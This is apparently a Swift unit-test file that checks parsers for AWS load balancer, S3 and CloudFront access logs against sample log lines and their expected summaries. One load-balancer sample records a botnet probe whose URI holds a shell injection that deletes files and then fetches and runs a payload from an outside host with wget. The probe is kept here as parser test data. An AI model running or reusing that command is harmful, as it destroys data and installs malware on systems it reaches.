import Testing

@testable import Telemetry

/// Lines of Amazon's services from the test data of Beats, of Elastic's integrations and its own manuals.
@Suite struct AmazonLogTests {
  @Test func `reads the log of an application load balancer`() {
    var parser = ApplicationLoadBalancerFormat()
    let lines: [(String, String?)] = [
      (
        #"http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337262-36d228ad5d99923122bbe354" "-" "-" 0 2018-07-02T22:22:48.364000Z "forward,redirect" "-" "-" "10.0.0.1:80" "200" "-" "-""#,
        "request 2018-07-02T22:23:00.186641Z GET http://www.example.com:80/ 200 0.001s up=0.001s bytes=366 trace=1-58337262-36d228ad5d99923122bbe354 client=192.168.131.39"
      ),
      (
        #"http 2022-05-12T06:41:29.051646Z app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1" "Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws" "-" "-" "-" "Acceptable" "SpaceInUri""#,
        "request 2022-05-12T06:41:29.051646Z GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws 301 bytes=390 trace=1-627cac19-4c6df30820daa80e3fd72ced client=67.43.156.20"
      ),
      (
        #"h2 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 10.0.1.252:48160 10.0.0.66:9000 0.000 0.002 0.000 200 200 5 257 "GET https://10.0.2.105:773/ HTTP/2.0" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337327-72bd00b0343d75b906739c42" "-" "-" 1 2018-07-02T22:22:48.364000Z "redirect" "https://example.com:80/" "-""#,
        "request 2018-07-02T22:23:00.186641Z GET https://10.0.2.105:773/ 200 0.002s up=0.002s bytes=257 trace=1-58337327-72bd00b0343d75b906739c42 client=10.0.1.252"
      ),
      (
        #"wss 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 10.0.0.140:44244 10.0.0.171:8010 0.000 0.001 0.000 101 101 218 786 "GET https://10.0.0.30:443/ HTTP/1.1" "-" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-west-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-"1 2018-07-02T22:22:48.364000Z "forward" "-" "-""#,
        "request 2018-07-02T22:23:00.186641Z GET https://10.0.0.30:443/ 101 0.001s up=0.001s bytes=786 trace=1-58337364-23a8c76965a2ef7629b185e3 client=10.0.0.140"
      ),
      (
        #"http 2018-11-30T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 - 0.000 0.001 0.000 502 - 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 0 2018-11-30T22:22:48.364000Z "forward" "-" "LambdaInvalidResponse""#,
        "request 2018-11-30T22:23:00.186641Z GET http://www.example.com:80/ 502 0.001s up=0.001s bytes=366 trace=1-58337364-23a8c76965a2ef7629b185e3 client=192.168.131.39"
      ),
      (
        #"http 2018-11-30T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 - -1 -1 -1 400 - 0 0 "- - -" "-" - - - "-" "-" "-" 0 2018-11-30T22:22:48.364000Z "-" "-" "-""#,
        "request 2018-11-30T22:23:00.186641Z 400 bytes=0 client=192.168.131.39"
      ),
      (
        #"http 2025-05-01T11:24:32.748149Z app/internal-service-alb/abcd1234efgh5678 127.0.0.1:57273 - -1 -1 -1 200 - 0 272 "- http://internal-service-alb.example.com:80-/ " "-" - - - "-" "-" "-" - 2025-05-01T11:24:32.720000Z "-" "-" "-" "-" "-" "-" "-" TID_00000000000000000000000000000000"#,
        "request 2025-05-01T11:24:32.748149Z 200 bytes=272 client=127.0.0.1"
      ),
      (
        "tls 2.0 2018-12-20T02:59:40 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd 192.168.131.39:2817 10.0.0.1:80 5 2 98 246 - arn:aws:acm:us-east-2:671290407336:certificate/2a108f19-aded-46b0-8493-c63eb1ef4a99 - ECDHE-RSA-AES128-SHA tlsv12 - my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com - - - 2018-12-20T02:59:30",
        nil
      ),
    ]
    for (line, expected) in lines {
      #expect(proxyRecord(line, by: &parser) == expected, "\(line)")
    }
  }

  @Test func `reads the log of a classic load balancer`() {
    var parser = ClassicLoadBalancerFormat()
    let lines: [(String, String?)] = [
      (
        #"2019-10-14T12:01:41.918996Z filebeat-aws-elb-test 81.2.69.143:54001 10.0.0.169:80 0.000041 0.00491 0.000027 200 200 0 612 "GET http://18.194.223.56:80/ HTTP/1.1" "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36" - -"#,
        "request 2019-10-14T12:01:41.923974Z GET http://18.194.223.56:80/ 200 0.004978s up=0.00491s bytes=612 client=81.2.69.143"
      )
    ]
    for (line, expected) in lines {
      #expect(proxyRecord(line, by: &parser) == expected, "\(line)")
    }
  }

  @Test func `reads the log of S3`() {
    var parser = S3Format()
    let lines: [(String, String?)] = [
      (
        #"36c1f05b76016b78528454e6e0c60e2b7ff7aa20c0a5e4c748276e5b0a2debd2 test-s3-ks [01/Aug/2019:00:24:43 +0000] 72.21.217.31 arn:aws:sts::627959692251:assumed-role/AWSServiceRoleForTrustedAdvisor/TrustedAdvisor_627959692251_784ab70b-8cc9-4d37-a2ec-2ff4d0c08af9 4DD6D17D1C5C401C REST.GET.BUCKET - "GET /test-s3-ks/?max-keys=0&encoding-type=url&aws-account=627959692251 HTTP/1.1" 200 - 265 - 2 1 "-" "AWS-Support-TrustedAdvisor" - KzvchfojYQnuFC4PABYVJVxIlv/f6r17LRaTSvw7x+bxj4PkkPKT1kX9x8wbqtq40iD4PC881iE= SigV4 ECDHE-RSA-AES128-SHA AuthHeader s3.ap-southeast-1.amazonaws.com TLSv1.2"#,
        "request 2019-08-01T00:24:43.002Z GET /test-s3-ks/?max-keys=0&encoding-type=url&aws-account=627959692251 route=REST.GET.BUCKET 200 0.002s bytes=265 req=4DD6D17D1C5C401C client=72.21.217.31 user=arn:aws:sts::627959692251:assumed-role/AWSServiceRoleForTrustedAdvisor/TrustedAdvisor_627959692251_784ab70b-8cc9-4d37-a2ec-2ff4d0c08af9"
      ),
      (
        "36c1f05b76016b78528454e6e0c60e2b7ff7aa20c0a5e4c748276e5b0a2debd2 jsoriano-s3-test [10/Sep/2019:15:11:07 +0000] 77.227.156.41 arn:aws:iam::627959692251:user/jaime.soriano@elastic.co 8CD7A4A71E2E5C9E BATCH.DELETE.OBJECT jolokia-war-1.5.0.war - 204 - - 344017 - - - - - IeDW5I3wefFxU8iHOcAzi5qr+O+1bdRlcQ0AO2WGjFh7JwYM6qCoKq+1TrUshrXMlBxPFtg97Vk= SigV4 ECDHE-RSA-AES128-SHA AuthHeader s3.eu-central-1.amazonaws.com TLSv1.2",
        "request 2019-09-10T15:11:07Z DELETE route=BATCH.DELETE.OBJECT 204 req=8CD7A4A71E2E5C9E client=77.227.156.41 user=arn:aws:iam::627959692251:user/jaime.soriano@elastic.co"
      ),
    ]
    for (line, expected) in lines {
      #expect(proxyRecord(line, by: &parser) == expected, "\(line)")
    }
  }

  @Test func `reads the log of CloudFront`() {
    var parser = CloudFrontFormat()
    let lines: [(String, String?)] = [
      (
        "#Version: 1.0",
        "message | #Version: 1.0"
      ),
      (
        "#Fields: date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) cs(User-Agent) cs-uri-query cs(Cookie) x-edge-result-type x-edge-request-id x-host-header cs-protocol cs-bytes time-taken x-forwarded-for ssl-protocol ssl-cipher x-edge-response-result-type cs-protocol-version fle-status fle-encrypted-fields c-port time-to-first-byte x-edge-detailed-result-type sc-content-type sc-content-len sc-range-start sc-range-end",
        "message | #Fields: date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) cs(User-Agent) cs-uri-query cs(Cookie) x-edge-result-type x-edge-request-id x-host-header cs-protocol cs-bytes time-taken x-forwarded-for ssl-protocol ssl-cipher x-edge-response-result-type cs-protocol-version fle-status fle-encrypted-fields c-port time-to-first-byte x-edge-detailed-result-type sc-content-type sc-content-len sc-range-start sc-range-end"
      ),
      (
        "2019-12-04\t21:02:31\tLAX1\t392\t89.160.20.112\tGET\td111111abcdef8.cloudfront.net\t/index.html\t200\t-\tMozilla/5.0%20(Windows%20NT%2010.0;%20Win64;%20x64)\t-\t-\tHit\tSOX4xwn4XV6Q4rgb7XiVGOHms_BGlTAC4KyHmureZmBNrjGdRLiNIQ==\td111111abcdef8.cloudfront.net\thttps\t23\t0.001\t-\tTLSv1.2\tECDHE-RSA-AES128-GCM-SHA256\tHit\tHTTP/2.0\t-\t-\t11040\t0.001\tHit\ttext/html\t78\t-\t-",
        "request 2019-12-04T21:02:31Z GET /index.html 200 0.001s bytes=392 req=SOX4xwn4XV6Q4rgb7XiVGOHms_BGlTAC4KyHmureZmBNrjGdRLiNIQ== client=89.160.20.112 hit"
      ),
      (
        "2022-04-19\t12:29:36\tSEA19-C2\t10157\t81.2.69.143\tPOST\td111111abcdef8.cloudfront.net\t/getApplications\t000\thttps://test.com/global\tMozilla/5.0%20(Windows%20NT%2010.0;%20Win64;%20x64)\tsource=global\t-\tMiss\thrsHM5OM6sTIXUleC1G20YtDxMf5Cq0Jbz0pwhVpod2kgEn_W6akCQ==\ttest.com\thttps\t1057\t0.238\t-\tTLSv1.3\tTLS_AES_128_GCM_SHA256\tMiss\tHTTP/2.0\t-\t-\t4203\t0.238\tMiss\tapplication/json;charset=UTF-8\t-\t-\t-",
        "request 2022-04-19T12:29:36Z POST /getApplications?source=global 0.238s bytes=10157 failed req=hrsHM5OM6sTIXUleC1G20YtDxMf5Cq0Jbz0pwhVpod2kgEn_W6akCQ== client=81.2.69.143 miss"
      ),
      (
        "2022-11-15\t08:43:04\tSEA19-C2\t10157\t81.2.69.143\tGET\td111111abcdef8.cloudfront.net\t/getApplications\t200\thttps://test.com/global\tMozilla/5.0%20(X11;%20Linux%20x86_64)\t-\t-\tMiss\thrsHM5OM6sTIXUleC1G20YtDxMf5Cq0Jbz0pwhVpod2kgEn_W6akCQ==\ttest.com\thttps\t1057\t0.093\t81.2.69.142, 216.160.83.56\tTLSv1.2\tECDHE-RSA-AES128-GCM-SHA256\tMiss\tHTTP/1.1\t-\t-\t33359\t0.093\tMiss\tapplication/javascript\t-\t-\t-",
        "request 2022-11-15T08:43:04Z GET /getApplications 200 0.093s bytes=10157 req=hrsHM5OM6sTIXUleC1G20YtDxMf5Cq0Jbz0pwhVpod2kgEn_W6akCQ== client=81.2.69.143 miss"
      ),
      (
        "2024-07-13\t15:29:45\tEWR53-C1\t198083\t127.0.0.1\tGET\txxxxxxxxxxxxx.cloudfront.net\t/en(test)\t404\thttps://domain.tld/\tUser-Agent:%20Mozilla/4.0%20(compatible;%20MSIE%207.0;%20Windows%20NT%205.1;%20360SE)\t-\tcookie\tError\tsomevalidbase64==\tdomain.tld\thttps\t609\t0.318\t-\tTLSv1.3\tTLS_AES_128_GCM_SHA256\tError\tHTTP/1.1\t-\t-\t50294\t0.318\tError\ttext/html\t-",
        "request 2024-07-13T15:29:45Z GET /en(test) 404 0.318s bytes=198083 req=somevalidbase64== client=127.0.0.1"
      ),
    ]
    for (line, expected) in lines {
      #expect(proxyRecord(line, by: &parser) == expected, "\(line)")
    }
  }

  @Test func `keeps the status that a balancer gives to clients who left`() {
    let line =
      #"https 2026-01-01T00:00:00.000001Z app/a/1 10.0.0.1:1 10.0.0.2:80 0.001 -1 -1 460 - 0 0 "GET https://a:443/x HTTP/1.1" "c" - - - "Self=1-67891234-12456789abcdef012345678;Root=1-67891233-abcdef012345678912345678" "-" "-" 0"#
    #expect(
      proxyRecord(line, as: ApplicationLoadBalancerFormat.self)
        == "request 2026-01-01T00:00:00.000001Z GET https://a:443/x 460 bytes=0 trace=1-67891233-abcdef012345678912345678 client=10.0.0.1"
    )
  }

  @Test func `takes the lines of a balancer for TCP for messages`() {
    let line =
      #"2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.001069 0.000028 0.000041 - - 82 305 "- - - " "-" - -"#
    #expect(proxyRecord(line, as: ClassicLoadBalancerFormat.self)?.hasPrefix("message") == true)
  }
}
